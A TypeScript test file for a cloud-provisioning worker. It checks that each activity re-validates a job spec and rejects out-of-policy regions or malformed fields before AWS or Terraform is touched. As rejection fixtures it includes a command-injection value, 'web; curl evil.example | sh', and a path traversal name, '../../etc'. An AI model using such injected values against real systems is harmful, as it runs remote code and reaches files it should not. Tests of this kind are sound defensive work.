import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WorkflowFailedError } from '@temporalio/client';
import { withCheckedSpecs } from '../../src/activities/inputCheck.js';
import type { JobSpec } from '../../src/domain/jobSpec.js';
import { startSandboxStack, type SandboxStack } from '../support/stack.js';
import { createJob } from '../../src/api/jobCommands.js';
import { sampleSpec, testActor, testPolicy } from '../support/jobs.js';

/**
 * The worker checks a job's spec again, with the API's schema and lists, in
 * every activity that acts on it: a spec that did not come through the
 * service reaches neither AWS nor Terraform. (The codec already refuses
 * payloads without the key; this holds for one encrypted by a holder of it.)
 */

describe('activities check the spec they are given', () => {
  const calls: string[] = [];
  const fake = {
    verifyCredentials: async (input: { spec: JobSpec }) => void calls.push(`verify ${input.spec.region}`),
    terraformDestroy: async (input: { spec: JobSpec }) => void calls.push(`destroy ${input.spec.region}`),
    notify: async (input: { jobId: string }) => void calls.push(`notify ${input.jobId}`),
  };
  const checked = withCheckedSpecs(fake, testPolicy);

  it('refuses a spec outside the lists, or malformed, before the activity runs, naming the field', async () => {
    calls.length = 0;
    const outside = { ...sampleSpec(), region: 'ap-south-2' };
    const err = await checked.verifyCredentials({ spec: outside }).catch((e: unknown) => e);
    expect(err).toMatchObject({ type: 'InvalidInput', nonRetryable: true });
    expect((err as Error).message).toMatch(/at verifyCredentials: region "ap-south-2" is not allowed/);
    const injected = sampleSpec();
    injected.containers[0]!.name = 'web; curl evil.example | sh';
    await expect(checked.verifyCredentials({ spec: injected })).rejects.toThrow(/containers\[0\]\.name|name/);
    await expect(checked.verifyCredentials({ spec: undefined as unknown as JobSpec })).rejects.toThrow(
      /failed the service's checks/,
    );
    expect(calls).toEqual([]);
    await checked.verifyCredentials({ spec: sampleSpec() });
    expect(calls).toEqual(['verify us-east-1']);
  });

  it("lets a destroy through under a narrower policy than the job's, but not a malformed spec", async () => {
    calls.length = 0;
    const spec = sampleSpec();
    const madeYesterday = { ...spec, region: 'ap-south-2', instance: { ...spec.instance, type: 'm5.large' } };
    await checked.terraformDestroy({ spec: madeYesterday });
    expect(calls).toEqual(['destroy ap-south-2']);
    const malformed = { ...sampleSpec(), name: '../../etc' };
    await expect(checked.terraformDestroy({ spec: malformed })).rejects.toThrow(/at terraformDestroy/);
    // Activities without a spec are untouched.
    await checked.notify({ jobId: 'j1' });
    expect(calls).toEqual(['destroy ap-south-2', 'notify j1']);
  });
});

describe('a job workflow started around the API with a spec outside the lists', () => {
  let stack: SandboxStack;
  const assumed: string[] = [];
  beforeAll(async () => {
    stack = await startSandboxStack({
      moto: false,
      workdirPrefix: 'prov-worker-input-',
      aws: {
        resolveJobCredentials: async () => {
          assumed.push('called');
          throw new Error('must not be reached');
        },
      },
    });
  }, 120_000);
  afterAll(async () => {
    await stack?.stop();
  });

  it('fails at its first step with the reason: no credentials asked for, no workspace rendered', {
    timeout: 120_000,
  }, async () => {
    // The job's row, as the web keeps it; the workflow is then started by hand.
    const { id: jobId } = await createJob(stack.commands, sampleSpec(), testActor('tester'));
    // A holder of the payload key, not the web: the spec never met the API's schema.
    const handle = await stack.client.workflow.start('provisionJob', {
      taskQueue: stack.worker.taskQueue,
      workflowId: `job-${jobId}`,
      args: [{ jobId, spec: { ...sampleSpec(), region: 'ap-south-2' }, approvalTimeoutMs: 60_000 }],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(WorkflowFailedError);
    const job = await stack.temp.db.selectFrom('jobs').selectAll().where('id', '=', jobId).executeTakeFirstOrThrow();
    expect(job.status).toBe('failed');
    expect(job.error).toMatch(/failed the service's checks at verifyCredentials: region "ap-south-2" is not allowed/);
    const history = JSON.stringify(await handle.fetchHistory());
    expect(history).not.toContain('renderWorkspace');
    expect(assumed).toEqual([]);
    const steps = await stack.temp.db.selectFrom('job_steps').selectAll().where('job_id', '=', jobId).execute();
    expect(steps.filter((s) => s.step !== 'verify')).toEqual([]);
  });
});
